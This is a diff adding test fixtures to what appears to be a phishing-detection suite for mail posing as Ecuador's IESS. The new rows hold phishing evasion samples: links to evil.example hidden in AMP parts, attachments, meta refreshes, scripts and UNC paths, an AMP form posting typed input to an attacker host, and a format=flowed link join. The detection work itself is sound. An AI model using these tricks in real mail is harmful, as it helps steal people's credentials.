@@ -20,6 +20,8 @@ Row = tuple[str, bytes, frozenset[str], frozenset[str], str]
 GENUINE = frozenset({"recovery"})
 NEVER_GENUINE = frozenset({"recovery", "iess_other"})
 LOOKALIKE = frozenset({"lookalike"})
+UNVERIFIED = frozenset({"unverified"})  # found, but its links are not all known
+NOT_A_VERDICT = frozenset({"recovery", "lookalike"})  # neither genuine nor phishing is known
 
 
 def mail(*headers: str, links: tuple[str, ...] = (IESS_LINK,)) -> bytes:
@@ -27,6 +29,28 @@ def mail(*headers: str, links: tuple[str, ...] = (IESS_LINK,)) -> bytes:
     body = "".join(f'<p><a href="{link}">Clic para continuar</a></p>' for link in links)
     lines = [*headers, "Content-Type: text/html; charset=utf-8"]
     return ("\r\n".join(lines) + "\r\n\r\n" + body + "\r\n").encode("utf-8")
+
+
+def parts(*headers: str, bodies: tuple[tuple[str, str], ...]) -> bytes:
+    """A multipart/mixed message: the header lines, then each (part headers, part body)."""
+    lines = [*headers, 'Content-Type: multipart/mixed; boundary="B"', ""]
+    for part_headers, body in bodies:
+        lines += ["--B", part_headers, "", body]
+    return ("\r\n".join([*lines, "--B--", ""])).encode("utf-8")
+
+
+def plain(*headers: str, body: str, ctype: str = "text/plain") -> bytes:
+    """A one-part message: the header lines, then `body` as it is."""
+    return ("\r\n".join([*headers, f"Content-Type: {ctype}; charset=utf-8", "", body, ""])
+            ).encode("utf-8")
+
+
+def page(*headers: str, body: str) -> bytes:
+    return plain(*headers, body=body, ctype="text/html")
+
+
+HEAD = (IESS_FROM, SUBJECT, DATE)
+EVIL = '<a href="https://evil.example/r">Confirmar</a>'
 
 
 def _row(name: str, raw: bytes, must: frozenset[str], never: frozenset[str], why: str) -> Row:
@@ -125,6 +149,97 @@ BASE: list[Row] = [
          LOOKALIKE, NEVER_GENUINE, "a browser opens //host on the page's scheme: it is a host"),
 ]
 
+# Found by the final review: links the reader missed, each a false "genuine".
+HIDDEN: list[Row] = [
+    _row("urldefense v3 wrapping evil", mail(*HEAD, links=(
+        IESS_LINK, "https://urldefense.com/v3/__https://evil.example/x__;!!AbC$")),
+         LOOKALIKE, NEVER_GENUINE, "Proofpoint v3 keeps the real link in its path"),
+    _row("urldefense v3 wrapping iess", mail(*HEAD, links=(
+        f"https://urldefense.com/v3/__{IESS_LINK}__;!!AbC$",)), GENUINE, LOOKALIKE,
+         "the wrapped link is IESS's own: no false phishing"),
+    _row("urldefense v2 wrapping evil", mail(*HEAD, links=(
+        "https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.example_x&d=1",)),
+         LOOKALIKE, NEVER_GENUINE, "Proofpoint v2 writes the link as https-3A__host_path"),
+    _row("a page on sites.google.com with url=", mail(*HEAD, links=(
+        f"https://sites.google.com/view/clave?url={IESS_LINK}",)), LOOKALIKE, NEVER_GENUINE,
+         "only google.com/url redirects: anyone's page on a Google host is not a wrapper"),
+    _row("UNC path in the text", plain(*HEAD, body=f"{IESS_LINK}\n\\\\evil.example\\clave"),
+         LOOKALIKE, NEVER_GENUINE, "Windows opens \\\\host\\share and hands it the password hash"),
+    _row("AMP part", parts(*HEAD, bodies=(("Content-Type: text/plain", IESS_LINK),
+                                          ("Content-Type: text/x-amp-html", EVIL))),
+         LOOKALIKE, NEVER_GENUINE, "Gmail shows the text/x-amp-html part instead of the HTML one"),
+    _row("HTML attachment", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: text/html\r\nContent-Disposition: attachment; filename=clave.html",
+         EVIL))), LOOKALIKE, NEVER_GENUINE, "an attached page opens in the browser"),
+    _row("SVG attachment", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: application/octet-stream; name=clave.svg\r\n"
+         "Content-Disposition: attachment; filename=clave.svg",
+         '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://evil.example/s">x</a></svg>'))),
+         LOOKALIKE, NEVER_GENUINE, "an SVG opens in the browser and can carry links"),
+    _row("bare host in the text", plain(*HEAD, body=f"{IESS_LINK}\no entre a evil.example/reset"),
+         LOOKALIKE, NEVER_GENUINE, "mail clients turn host.tld/path into a link"),
+    _row("a sentence with Sr.Afiliado/a", plain(*HEAD, body=f"Estimado Sr.Afiliado/a: {IESS_LINK}"),
+         GENUINE, LOOKALIKE, "a bare name under no registrable suffix is not a link"),
+    _row("meta refresh", page(*HEAD, body='<meta http-equiv="refresh" content="0; url=https:'
+                                       f'//evil.example/r"><a href="{IESS_LINK}">Clic</a>'),
+         LOOKALIKE, NEVER_GENUINE, "a refresh takes the page elsewhere"),
+    _row("javascript link", mail(*HEAD, links=(IESS_LINK, "javascript:location='//evil.example'")),
+         UNVERIFIED, NOT_A_VERDICT, "where a script leads cannot be read: not all links known"),
+    _row("data link", mail(*HEAD, links=(IESS_LINK, "data:text/html;base64,PGgxPkNsYXZlPC9oMT4=")),
+         UNVERIFIED, NOT_A_VERDICT, "a data: page cannot be judged by its host"),
+    _row("link to a one-label host", mail(*HEAD, links=(IESS_LINK, "https://intranet/r")),
+         UNVERIFIED, NOT_A_VERDICT, "a host that is no public name: where it leads is unknown"),
+    _row("script in an HTML attachment", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: text/html\r\nContent-Disposition: attachment; filename=clave.html",
+         "<script>location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')</script>"))),
+         UNVERIFIED, NOT_A_VERDICT, "where a script sends the page cannot be read off it"),
+    _row("event handler on the IESS link", page(*HEAD, body=f'<a href="{IESS_LINK}" '
+                                                 "onclick=\"location='//evil.example'\">x</a>"),
+         UNVERIFIED, NOT_A_VERDICT, "the click runs the script, not the link"),
+    _row("AMP form", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: text/x-amp-html",
+         '<form method="post" action-xhr="https://evil.example/clave"><input name="c"></form>'))),
+         LOOKALIKE, NEVER_GENUINE, "an AMP form sends what is typed to its action-xhr"),
+    _row("'online =' in the text", page(*HEAD, body=f'<p>Servicios online = rápidos</p>'
+                                        f'<a href="{IESS_LINK}">Clic</a>'), GENUINE, LOOKALIKE,
+         "an event handler is an attribute inside a tag, not a word in a sentence"),
+    _row("a stylesheet's background from a CDN", page(*HEAD, body=(
+        "<style>body{background:url(https://cdn.example/fondo.png)}</style>"
+        f'<a href="{IESS_LINK}">Clic</a>')), GENUINE, LOOKALIKE,
+         "a stylesheet loads an image: nothing there is clicked, no false phishing"),
+    _row("frame in an HTML attachment", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: text/html\r\nContent-Disposition: attachment; filename=clave.html",
+         '<iframe src="https://evil.example/formulario"></iframe>'))), UNVERIFIED, NOT_A_VERDICT,
+         "a frame shows another page inside it: its links are unknown"),
+    _row("attached message", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: message/rfc822", "From: x@evil.example\r\nContent-Type: text/html\r\n"
+         f"\r\n{EVIL}"))), LOOKALIKE, NEVER_GENUINE, "an attached mail opens, links and all"),
+    _row("format=flowed join", plain(*HEAD, ctype="text/plain; format=flowed; delsp=yes",
+                                     body=f"{IESS_LINK[:23]} \r\n @evil.example"),
+         LOOKALIKE, NEVER_GENUINE, "the client joins the lines: https://www.iess.gob.ec@evil…"),
+    _row("PDF attachment", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: application/pdf; name=clave.pdf\r\nContent-Disposition: attachment",
+         "JVBERi0xLjQK"))), UNVERIFIED, NOT_A_VERDICT, "a PDF's links cannot be read here"),
+    _row("logo image", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: image/png\r\nContent-Disposition: inline", "iVBORw0KGgo="))),
+         GENUINE, LOOKALIKE, "an image holds no link: the genuine mail's logo changes nothing"),
+    _row("multipart without its boundary", (
+        f"{IESS_FROM}\r\n{SUBJECT}\r\n{DATE}\r\nContent-Type: multipart/alternative\r\n\r\n"
+        f"{EVIL}\r\n").encode(), LOOKALIKE, NEVER_GENUINE, "clients show its body as it is"),
+    _row("Reply-To elsewhere", mail(*HEAD, "Reply-To: soporte@evil.example"), LOOKALIKE,
+         NEVER_GENUINE, "an answer would go to the phisher"),
+    _row("Reply-To at IESS", mail(*HEAD, "Reply-To: mesadeayuda@iess.gob.ec"), GENUINE,
+         LOOKALIKE, "a Reply-To on the IESS domain gives nothing away"),
+]
+
 # Common look-alikes of i, e and s (UTS #39 confusables and a few it leaves out).
 HOMOGLYPHS = {
     "i": "ɩɪᎥ⍳іıιｉ",
@@ -171,4 +286,4 @@ def _phishing_corpus() -> Iterator[Row]:
                        frozenset(), NEVER_GENUINE, "dmarc=pass for another domain")
 
 
-ROWS: list[Row] = [*BASE, *_homoglyph_rows(), *_phishing_corpus()]
+ROWS: list[Row] = [*BASE, *HIDDEN, *_homoglyph_rows(), *_phishing_corpus()]
